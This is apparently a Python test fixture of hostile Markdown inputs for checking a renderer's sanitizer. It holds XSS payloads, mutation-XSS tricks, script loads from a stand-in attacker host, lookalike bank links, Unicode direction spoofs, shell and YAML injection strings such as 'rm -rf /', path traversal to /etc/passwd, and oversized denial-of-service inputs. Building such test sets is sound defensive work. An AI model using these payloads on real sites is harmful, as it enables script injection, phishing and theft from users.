"""What strangers might write under an entry to make its page do something: a name for each attempt, and its Markdown.

`{away}` is a server of the attacker. Whatever runs, calls `alert`; whatever loads, asks that server.
"""

from __future__ import annotations

HOSTILE = {
    "script": "<script>alert(1)</script>\n\ntext <script src={away}/x.js></script> <SCRIPT>alert(1)</SCRIPT>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>\n\n<script\n>alert(1)</script\n>",
    "handlers": '<img src=x onerror=alert(1)> <b onmouseover="alert(1)">b</b> <details open ontoggle=alert(1)>\n\n'
    '<details open ontoggle="alert(1)">x</details>\n\n<body onload=alert(1)>\n\n<video onerror=alert(1)><source>',
    "handlers without spaces": "<img/src=x/onerror=alert(1)>\n\n<a/href=x/onclick=alert(1)>a</a> "
    "<b\x0conclick=alert(1)>",
    "javascript": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) "
    "[d](&#x6A&#x61&#x76&#x61;script:alert(1)) <javascript:alert(1)> [e](\x01javascript:alert(1))\n\n"
    '<a href="javascript:alert(1)">f</a> <a href="java\nscript:alert(1)">g</a> <a href=" &#14; '
    'javascript:alert(1)">h</a>\n'
    '<a href="java&Tab;script:alert(1)">i</a> <a href="javascript&colon;alert(1)">j</a>\n\n[k]\n\n[k]: '
    "javascript:alert(1)",
    "data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg) "
    "![b](data:image/svg+xml,<svg/onload=alert(1)>) "
    '<a href="data:text/html,<script>alert(1)</script>">c</a> [d](vbscript:msgbox(1)) [e](file:///etc/passwd) '
    "[f](blob:{away}/1) [g](view-source:{away}) <a href='feed:javascript:alert(1)'>h</a>",
    "breaking out of an attribute": '[a]({away}/"onmouseover="alert(1)) [b](<{away}/" onclick="alert(1)>) '
    '!["><script>alert(1)</script>]({away}/x.png) [c]({away} \'" onclick=alert(1) x="\')\n\n'
    '<a href="{away}/&quot; onclick=&quot;alert(1)">d</a> <img alt=\'"><script>alert(1)</script>\' src="{away}/y.png">',
    "images": "![a]({away}/a.png) <img src={away}/b.png srcset='{away}/c.png 2x' lowsrc={away}/d.png>\n\n"
    "<picture><source srcset={away}/e.png><img src={away}/f.png></picture>\n\n<input type=image src={away}/g.png>\n\n"
    "<table background={away}/h.png><tr><td background={away}/i.png>x</table> <body background={away}/j.png>",
    "media": "<video src={away}/a.mp4 poster={away}/b.png autoplay></video>\n\n<audio src={away}/c.mp3 autoplay>\n\n"
    "<iframe src={away}/d srcdoc='<script>alert(1)</script>'></iframe>\n\n<object data={away}/e></object>\n\n"
    "<embed src={away}/f> <applet code={away}/g> <frameset><frame src={away}/h></frameset> <portal src={away}/i>",
    "heads": "<link rel=stylesheet href={away}/a.css> <meta http-equiv=refresh content='0;url={away}/b'>\n\n"
    "<meta http-equiv=refresh content='0;url={away}/c'>\n\n<base href={away}/d/>\n\n<title>x</title>\n\n"
    "<link rel=preload as=image href={away}/e> <link rel=dns-prefetch href={away}>",
    "styles": "<style>@import '{away}/a.css'; body {{ display: none }}</style>\n\n<b style='position:fixed;inset:0;"
    'background:url({away}/b.png)\'>b</b>\n\n<div style="background:url({away}/c.png)" class="head" '
    'id="main">c</div>\n\n'
    "<p align=right><font size=7 color=red>d</font></p>\n\n<style>\n\n*{{color:red}}",
    "forms": "<form action={away}/a><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x"
    "</button></form>\n\n<isindex action={away}> <textarea autofocus>x</textarea> <select><option>x</select>\n\n"
    "<button form=x popovertarget=main>b</button> <dialog open>d</dialog> <keygen> <label for=main>l</label>",
    "drawings": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a>"
    "<image href={away}/a.png /><use href={away}/b.svg#x /><animate onbegin=alert(1) "
    "/></svg>\n\n<svg/onload=alert(1)>\n\n"
    "<math><mtext><img src=x onerror=alert(1)></mtext><maction actiontype=statusline xlink:href=javascript:alert(1)>m"
    "</maction></math> <math href=javascript:alert(1)>n</math>",
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">\n\n'
    'x <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation, namespaces": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror="
    "alert(1)&gt;'>\n\n<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>\n\n"
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>\n\n<math><annotation-xml "
    "encoding=text/html><img src "
    "onerror=alert(1)>",
    "mutation, template": "<template><img src=x onerror=alert(1)></template>\n\n<template><s><template><s><img src=x "
    "onerror=alert(1)></s></template>\n\n<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "mutation, raw text": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>\n\n<title><a title='</title>"
    "<img src=x onerror=alert(1)>'>\n\n<xmp><p title='</xmp><img src=x onerror=alert(1)>'>\n\n<plaintext>x\n\n"
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'> <iframe><img title='</iframe><img src=x "
    "onerror=alert(1)>'>",
    "leaving the box": "</article></main></body></html><h1>ours</h1>\n\nx "
    "</div></li></ol></section></p></td></table>\n\n"
    "</div></div></div></div></blockquote></details>\n\n<li>\n\n<td>\n\n</ul>\n\nafterwards",
    "never ended": "<div><b><i><a href='{away}'><details><summary><table><tr><td><ul><li><pre><code>x",
    "tags never ended": "<b <i <a href='{away}\n\n<img src=x onerror=alert(1)\n\n<script",
    "comments never ended": "a <!-- b\n\n<!-- c\n\n--!> <img src=x onerror=alert(1)> <!--> <img src=x "
    "onerror=alert(1)>",
    "comments, declarations": "<!--[if true]><script>alert(1)</script><![endif]-->\n\n<!DOCTYPE html> <?php echo 1 ?> "
    "<![CDATA[ <script>alert(1)</script> ]]>\n\n<!--><script>alert(1)</script>-->\n\nx <!--><img src=x "
    "onerror=alert(1)>-->",
    "names of the page": '<a id=main name=main href="{away}">a</a> <form id=document><input name=cookie></form>\n\n'
    "<div id=search class='head search' name=search data-x=1 lang=xx dir=rtl hidden>b</div>\n\n# main {{#main "
    ".head}}\n\n"
    '<b id="theme" contenteditable tabindex=1 accesskey=x role=alert aria-label="c" itemprop=name slot=x is=y>c</b>',
    "directions": "\u202eexe.gnp\u202c \u2067abc \u2066 \u2068 \u200f\u202d123 &#x202e;abc&#8238; `\u202ecode` "
    "[\u202etxt]({away}/\u202ex)\n\n\u2067\u2067\u2067\n\n<b>\u202e&#x2067;b</b>\n\n\u05d0\u05d1\u05d2 abc \u05d3",
    "unseen": "pay\u200bpal \ufeff\u2060\u00ad a\U000e0041\U000e0042 \u3164 \u2028 \u2029 z" + "\u0335\u0489" * 400,
    "hosts": "[https://bank.example/]({away}/) [bank.example]({away}/) https://bank.example@evil.example/ "
    "[b\u0430nk.example]({away}/) https://b\u0430nk.example/ [go to **bank.**example]({away}/)\n\n"
    '<a href="{away}/">bank.example</a> [bank\uff0eexample]({away}) []({away}) [\u200b]({away})',
    "placeholders": "\0h0\0 \0t1\0 \0p\0 \0o<script>alert(1)</script>\0 \0r\0 &#0;h0&#0; [a](\0h0\0) [b](&#0;h0&#0;) "
    "<a href='\0h0\0'>c</a> `\0h0\0`\n\n```\n\0h0\0\n```\n\n<b>&#0;t0&#0;&NUL;</b>",
    "templates": "{{{{ 7*7 }}}} {{% include '/etc/passwd' %}} ${{alert(1)}} <%= 7*7 %> #{{7*7}} {{{{constructor."
    "constructor('alert(1)')()}}}} $(touch x) `touch x` ; rm -rf / && || !!python/object/apply:os.system ['x']",
    "front matter": "---\ntitle: ours\ndraft: true\nresult: met\n---\n\n- !!python/object/apply:os.system "
    "[x]\n- &a *a\n",
    "paths": "![a](../../../etc/passwd) [b](/etc/passwd) [c](//evil.example/) [d](\\\\evil\\share) [e](..%2f..%2fx) "
    "[[../../x]] ![[x.png]] ![[../../microjournal.yaml]] <img src=../../x.png> [f](?x) [g](#main) [h](.)",
    "attributes of ours": "[a](x){{onclick=alert(1) .head #main}} **b**{{style='x'}} "
    "[c]{{#main}}\n{{.head}}\n\n[^1] [^1]: x",
    "odd addresses": "[a](http:evil.example) [b](https:///evil.example) [c](http://) [d](https://[::1]/x) "
    "[e](http://a b) "
    "[f](https://evil.example%2f@bank.example/) [g](https://evil.example\\@bank.example) "
    "[h](mailto:a@b.example?bcc=c@d.e) "
    "<a href='ht\ttps://evil.example'>i</a> [j](HTTPS://EVIL.EXAMPLE) [k](https://xn--a) [l](http://1.2.3.4:99999/)",
    "wide": "W" * 3_000
    + " "
    + "https://evil.example/"
    + "w" * 1_500
    + "\n\n    "
    + "W" * 500
    + "\n\n| "
    + "W" * 200
    + " | b |\n|---|---|\n| "
    + "W" * 300
    + " | c |\n\n# "
    + "W" * 400
    + "\n\n`"
    + "W" * 400
    + "`",
    "deep": ">" * 60
    + " q\n\n"
    + "- " * 60
    + "l\n\n"
    + "<div>" * 200
    + "<blockquote>" * 100
    + "x\n\n"
    + "[" * 500
    + "]" * 500,
}
# A megabyte of each; a forge takes less, but nothing says that a snapshot comes from one.
LARGE = {
    "quotes": ">",
    "quoted lines": "> > x\n",
    "lines that go on": ">" * 20 + "a\nb\nb\nb\n",
    "lists": "- ",
    "items": "- a\n",
    "brackets": "[",
    "links": "[a](",
    "images": "![a](",
    "nested links": "[a](b",
    "closed brackets": "[a][b]",
    "emphasis": "*a ",
    "strong": "**a",
    "underscores": "_a",
    "mixed": "*_",
    "struck": "~~a",
    "backquotes": "`",
    "backquotes of all lengths": "` `` ``` ```` ",
    "tables": "|a",
    "rows": "a|b\n-|-\n",
    "cells": "|\n",
    "tags": "<b>",
    "blocks": "<div>\n\n",
    "details": "<details>\n",
    "formatting": "<b><i><p>",
    "comments": "<!--",
    "declarations": "<!a",
    "instructions": "<?",
    "attributes": "<a b ",
    "closed tags": "</b>",
    "entities": "&amp;",
    "ampersands": "&",
    "mentions": "@a ",
    "issues": "a/b#1 ",
    "paths": "a/",
    "emoji": ":+1:",
    "colons": ":a",
    "addresses": "http://a.b ",
    "addresses together": "http://",
    "hosts": "www.",
    "references": "[a]: b\n",
    "references used": "[a]: <" + "x" * 300 + ">\n[a][a][a]",
    "backslashes": "\\",
    "spaces": " ",
    "tabs": "\t-",
    "lines": "\n",
    "text": "word ",
    "headings": "# a\n",
    "underlines": "a\n=\n",
    "fences": "```\n",
    "code": "```python\n'''\n",
    "marks": "\u0301",
    "dots": "a.",
    "alerts": "> [!NOTE]\n",
    "flags": "\U0001f3f4\U000e0061",
}
